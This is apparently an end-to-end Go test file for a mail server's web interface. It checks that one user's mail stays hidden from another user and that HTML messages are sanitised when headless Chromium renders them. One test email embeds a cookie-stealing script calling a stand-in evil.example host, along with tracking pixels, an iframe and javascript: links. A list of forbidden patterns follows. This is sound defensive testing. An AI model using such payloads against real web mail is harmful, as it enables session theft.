package e2e

import (
	"context"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"
)

// webClient is a Go HTTP client signed in to the held-mail page.
type webClient struct {
	t    *testing.T
	base string
	c    *http.Client
}

var csrfInput = regexp.MustCompile(`name="csrf" value="([^"]+)"`)

// webClient signs user in through the form, as a browser would.
func (n *contNode) webClient(t *testing.T, user string) *webClient {
	t.Helper()
	jar, _ := cookiejar.New(nil)
	w := &webClient{t: t, base: "https://" + n.web, c: &http.Client{Jar: jar, Timeout: 30 * time.Second,
		Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: n.ca.Pool}}}}
	_, page := w.get("/login")
	m := csrfInput.FindStringSubmatch(page)
	if m == nil {
		t.Fatalf("no CSRF token on the login page:\n%s", page)
	}
	resp, err := w.c.PostForm(w.base+"/login", url.Values{"csrf": {m[1]}, "user": {user}, "password": {contUsers[user]}})
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 || resp.Request.URL.Path != "/mail" {
		t.Fatalf("web login as %s: %d at %s", user, resp.StatusCode, resp.Request.URL.Path)
	}
	return w
}

func (w *webClient) get(path string) (*http.Response, string) {
	w.t.Helper()
	resp, err := w.c.Get(w.base + path)
	if err != nil {
		w.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp, string(b)
}

// checkWebIsolation: user's list shows their subjects only, and no UID
// they try (nor its download, nor its attachments) shows the other
// user's mail.
func checkWebIsolation(t *testing.T, n *contNode, user string, mine, theirs []string, maxUID int) {
	t.Helper()
	w := n.webClient(t, user)
	_, list := w.get("/mail")
	for _, s := range mine {
		if !strings.Contains(list, s) {
			t.Errorf("%s's list lacks %q", user, s)
		}
	}
	for uid := 0; uid <= maxUID+3; uid++ {
		for _, p := range []string{"/mail/%d", "/mail/%d?view=text", "/mail/%d/raw", "/mail/%d/part/0", "/mail/%d/part/1"} {
			path := fmt.Sprintf(p, uid)
			resp, body := w.get(path)
			for _, s := range theirs {
				if strings.Contains(body, s) {
					t.Fatalf("%s reached the other user's %q at %s (%d)", user, s, path, resp.StatusCode)
				}
			}
			if uid > maxUID && resp.StatusCode != http.StatusNotFound {
				t.Errorf("%s %s: %d, want 404", user, path, resp.StatusCode)
			}
		}
	}
	for _, s := range theirs {
		if strings.Contains(list, s) {
			t.Errorf("%s's list shows %q", user, s)
		}
	}
}

// spki is what Chromium's --ignore-certificate-errors-spki-list wants: the
// base64 SHA-256 of the certificate's public key. The browser then trusts
// this one key, not every certificate.
func spki(t *testing.T, n *contNode) string {
	cert, err := x509.ParseCertificate(n.leaf.Cert.Certificate[0])
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(cert.RawSubjectPublicKeyInfo)
	return base64.StdEncoding.EncodeToString(sum[:])
}

const reportHTML = "From: Finance Team <finance@example.org>\r\nTo: alice@example.test\r\nSubject: Quarterly report\r\n" +
	"Date: Mon, 02 Nov 2026 09:30:00 +0100\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"mix\"\r\n\r\n" +
	"--mix\r\nContent-Type: multipart/alternative; boundary=\"alt\"\r\n\r\n" +
	"--alt\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nHello Alice, the quarterly figures are below.\r\n" +
	"--alt\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" +
	"<html><head><script>fetch('https://evil.example/steal?c='+document.cookie)</script>" +
	"<link rel=\"stylesheet\" href=\"https://evil.example/track.css\"></head><body onload=\"alert(1)\">" +
	"<h2>Quarterly report</h2><p>Hello Alice,</p><p>the figures for the third quarter are <b>up 12%</b> on last year:</p>" +
	"<table border=1><tr><th>Region</th><th>Q3</th><th>Q2</th></tr><tr><td>North</td><td>4.2</td><td>3.9</td></tr>" +
	"<tr><td>South</td><td>3.1</td><td>2.7</td></tr></table>" +
	"<p><img src=\"https://evil.example/pixel.gif?u=alice\" width=1 height=1>" +
	"<img src=\"http://evil.example/logo.png\" alt=\"logo\"></p>" +
	"<p>Details on <a href=\"https://intranet.example.org/q3\">the intranet</a>. " +
	"<a href=\"javascript:alert(2)\">Do not click</a></p><iframe src=\"https://evil.example/frame\"></iframe>" +
	"<p style=\"background:url(https://evil.example/bg.png)\">Best regards,<br>Finance</p></body></html>\r\n" +
	"--alt--\r\n" +
	"--mix\r\nContent-Type: text/csv\r\nContent-Disposition: attachment; filename=\"q3.csv\"\r\n\r\nregion,q3,q2\r\nNorth,4.2,3.9\r\nSouth,3.1,2.7\r\n" +
	"--mix--\r\n"

// TestContinuityWebChromium: Debian's Chromium, headless, driven over
// the DevTools protocol, signs in through the form, lists the held mail,
// opens an HTML message full of scripts and remote content, and the page
// it rendered has the subject and no script, no remote source; the browser
// made no request anywhere but mxq. Screenshots are saved in the test's
// directory (MXQ_CONTINUITY_SCREENSHOT=path copies the message page).
func TestContinuityWebChromium(t *testing.T) {
	need(t, "chromium")
	n := startContNode(t, freePort(t))
	n.send([]byte("From: Carol <carol@example.org>\r\nTo: alice@example.test\r\nSubject: Lunch on Friday?\r\nDate: Mon, 02 Nov 2026 08:05:00 +0100\r\n\r\nShall we?\r\n"), "alice@example.test")
	n.send([]byte(reportHTML), "alice@example.test")
	n.send([]byte("From: IT <it@example.org>\r\nTo: alice@example.test\r\nSubject: Mail service disruption\r\nDate: Mon, 02 Nov 2026 10:12:00 +0100\r\n\r\nThe mailbox servers are being repaired.\r\n"), "alice@example.test")
	n.send([]byte("From: Carol <carol@example.org>\r\nTo: bob@example.test\r\nSubject: for bob only\r\n\r\nbob's\r\n"), "bob@example.test")
	n.waitIndexed(4)

	chrome, _ := execLookPath("chromium")
	dir := t.TempDir()
	opts := append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(chrome),
		chromedp.NoSandbox, // the tests run as root in CI
		chromedp.UserDataDir(filepath.Join(dir, "profile")),
		chromedp.WindowSize(1100, 820),
		chromedp.Flag("ignore-certificate-errors-spki-list", spki(t, n)),
		chromedp.Flag("disable-dev-shm-usage", true),
	)
	actx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
	defer cancelAlloc() // kills the browser
	ctx, cancel := chromedp.NewContext(actx)
	defer cancel()
	ctx, cancelT := context.WithTimeout(ctx, 60*time.Second)
	defer cancelT()

	var mu sync.Mutex
	var requested []string
	if err := chromedp.Listen(ctx, func(ev any) {
		if e, ok := ev.(*network.EventRequestWillBeSent); ok {
			mu.Lock()
			requested = append(requested, e.Request.URL)
			mu.Unlock()
		}
	}); err != nil {
		t.Fatalf("starting chromium: %v", err)
	}
	base := "https://" + n.web
	run := func(what string, steps ...chromedp.Action[chromedp.Void]) {
		t.Helper()
		if err := chromedp.Do(ctx, steps...); err != nil {
			t.Fatalf("chromium, %s: %v", what, err)
		}
	}
	get := func(what string, a chromedp.Action[string]) string {
		t.Helper()
		v, err := chromedp.Run(ctx, a)
		if err != nil {
			t.Fatalf("chromium, %s: %v", what, err)
		}
		return v
	}
	shot := func() []byte {
		t.Helper()
		png, err := chromedp.Run(ctx, chromedp.FullScreenshot(100))
		if err != nil {
			t.Fatalf("chromium, screenshot: %v", err)
		}
		return png
	}
	run("sign in",
		chromedp.Navigate(base+"/"),
		chromedp.WaitVisible(chromedp.ID("user")),
		chromedp.SendKeys(chromedp.ID("user"), "alice@example.test"),
		chromedp.SendKeys(chromedp.ID("password"), contUsers["alice@example.test"]),
		chromedp.Click(chromedp.ID("signin")),
		chromedp.WaitVisible(chromedp.CSS("table.list")),
	)
	listHTML := get("list", chromedp.OuterHTML(chromedp.CSS("html")))
	listPNG := shot()
	run("open the message",
		chromedp.Click(chromedp.Search(`//a[text()="Quarterly report"]`)),
		chromedp.WaitVisible(chromedp.ID("subject")),
	)
	subject := get("subject", chromedp.Text(chromedp.ID("subject")))
	msgHTML := get("message", chromedp.OuterHTML(chromedp.CSS("html")))
	msgPNG := shot()
	for _, s := range []string{"Lunch on Friday?", "Quarterly report", "Mail service disruption"} {
		if !strings.Contains(listHTML, s) {
			t.Errorf("the list lacks %q", s)
		}
	}
	if strings.Contains(listHTML, "for bob only") {
		t.Error("alice's list shows bob's mail")
	}
	if subject != "Quarterly report" || !strings.Contains(msgHTML, "up 12%") || !strings.Contains(msgHTML, "q3.csv") {
		t.Errorf("message page: subject %q\n%s", subject, msgHTML)
	}
	lower := strings.ToLower(msgHTML)
	for _, bad := range []string{"<script", "<iframe", "<img", "src=\"http", "src=http", "evil.example", "javascript:", "onload", "style=\""} {
		if strings.Contains(lower, bad) {
			t.Errorf("the rendered page contains %q", bad)
		}
	}
	mu.Lock()
	for _, u := range requested {
		if !strings.HasPrefix(u, base+"/") {
			t.Errorf("the browser requested %s", u)
		}
	}
	t.Logf("requests made by the browser: %v", requested)
	mu.Unlock()

	for name, png := range map[string][]byte{"list.png": listPNG, "message.png": msgPNG} {
		if len(png) < 1000 || string(png[1:4]) != "PNG" {
			t.Fatalf("%s is not a PNG (%d bytes)", name, len(png))
		}
		if err := os.WriteFile(filepath.Join(dir, name), png, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	t.Logf("screenshots: %s", dir)
	if p := os.Getenv("MXQ_CONTINUITY_SCREENSHOT"); p != "" {
		if err := os.WriteFile(p, msgPNG, 0o644); err != nil {
			t.Fatal(err)
		}
		os.WriteFile(strings.TrimSuffix(p, ".png")+"-list.png", listPNG, 0o644)
	}
}

func execLookPath(name string) (string, error) { return exec.LookPath(name) }
